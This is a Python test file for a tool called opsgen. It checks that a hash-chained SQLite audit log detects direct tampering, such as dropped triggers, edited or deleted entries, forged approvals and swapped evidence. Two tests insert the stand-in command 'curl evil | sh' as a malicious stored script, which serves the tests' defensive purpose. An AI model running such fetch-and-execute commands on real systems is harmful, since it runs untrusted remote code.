"""The hash-chained audit log and the integrity check catch edits made behind opsgen's back.

Each test edits the real SQLite file the way an attacker with file access would: drop the
append-only trigger, then UPDATE/DELETE/INSERT with plain SQL.
"""

from __future__ import annotations

import itertools
import sqlite3

import pytest

from opsgen.approval import approve, reject
from opsgen.flow.testing import error_finding, make_evidence, seed_change
from opsgen.store import audit
from opsgen.store.canonical import sha256_text
from opsgen.store.integrity import verify_store
from opsgen.store.repo import Store
from opsgen.store.workspace import Workspace


def _raw(workspace: Workspace, *tables: str) -> sqlite3.Connection:
    conn = sqlite3.connect(workspace.db_path, isolation_level=None)
    for table in tables:
        conn.execute(f"DROP TRIGGER IF EXISTS {table}_no_update")
        conn.execute(f"DROP TRIGGER IF EXISTS {table}_no_delete")
    return conn


@pytest.fixture()
def approved(store: Store) -> Store:
    change, _, _ = seed_change(store, evidence=make_evidence(findings=(error_finding(),)))
    approve(store, change.id, by="bob", comment="ok", override="known false positive")
    other, _, _ = seed_change(store, name="other")
    reject(store, other.id, by="carol", reason="no")
    return store


def test_every_action_is_logged_and_the_chain_verifies(approved: Store) -> None:
    actions = [e.action for e in audit.entries(approved.conn)]
    assert actions == [
        "create",
        "revise",
        "dry-run",
        "approve",
        "override",
        "create",
        "revise",
        "dry-run",
        "reject",
    ]
    assert verify_store(approved.conn) == []
    entries = list(audit.entries(approved.conn))
    assert entries[0].prev == audit.GENESIS
    assert all(b.prev == a.hash for a, b in itertools.pairwise(entries))
    assert [e.seq for e in entries] == list(range(1, len(entries) + 1))


def test_appending_outside_a_transaction_is_refused(store: Store) -> None:
    with pytest.raises(RuntimeError):
        audit.append(store.conn, actor="a", action="create", change_id=None, payload={})


def test_editing_an_audit_entry_is_detected(approved: Store, workspace: Workspace) -> None:
    _raw(workspace, "audit").execute(
        "UPDATE audit SET payload = replace(payload, 'known false positive', 'x') "
        "WHERE action = 'override'"
    )
    problems = verify_store(approved.conn)
    assert any("audit entry 5 (override) was modified" in p for p in problems)


def test_deleting_an_audit_entry_is_detected(approved: Store, workspace: Workspace) -> None:
    _raw(workspace, "audit").execute("DELETE FROM audit WHERE seq = 3")
    problems = verify_store(approved.conn)
    assert "audit entry 3 is missing (next is 4)" in problems
    assert "evidence 1 has no audit entry" in problems


def test_editing_the_stored_script_is_detected(approved: Store, workspace: Workspace) -> None:
    _raw(workspace, "revisions").execute(
        "UPDATE revisions SET script = 'curl evil | sh' WHERE id = 1"
    )
    assert any("revision 1: script text does not match" in p for p in verify_store(approved.conn))


def test_editing_script_and_its_hash_together_is_detected(
    approved: Store, workspace: Workspace
) -> None:
    evil = "curl evil | sh\n"
    _raw(workspace, "revisions").execute(
        "UPDATE revisions SET script = ?, sha256 = ? WHERE id = 1", (evil, sha256_text(evil))
    )
    assert "revision 1: sha256 differs from its audit entry" in verify_store(approved.conn)


def test_forged_or_altered_approvals_are_detected(approved: Store, workspace: Workspace) -> None:
    raw = _raw(workspace, "decisions")
    raw.execute("UPDATE decisions SET by = 'mallory' WHERE id = 1")
    raw.execute(
        "INSERT INTO decisions (change_id, revision_id, kind, by, comment, override,"
        " revision_sha256, evidence_sha256, created_at)"
        " SELECT change_id, revision_id, 'approve', 'eve', '', '', revision_sha256,"
        " evidence_sha256, created_at FROM decisions WHERE id = 1"
    )
    problems = verify_store(approved.conn)
    assert "decision 1: by differs from its audit entry" in problems
    assert "decision 3 has no audit entry" in problems


def test_swapped_evidence_body_is_detected(approved: Store, workspace: Workspace) -> None:
    clean = make_evidence()
    _raw(workspace, "evidence").execute(
        "UPDATE evidence SET body = ?, sha256 = ? WHERE id = 1", (clean.canonical, clean.sha256)
    )
    assert "evidence 1: sha256 differs from its audit entry" in verify_store(approved.conn)


def test_changed_request_is_detected(approved: Store, workspace: Workspace) -> None:
    _raw(workspace, "changes").execute("UPDATE changes SET request = 'other' WHERE id = 1")
    assert "change 1: request_sha256 differs from its audit entry" in verify_store(approved.conn)
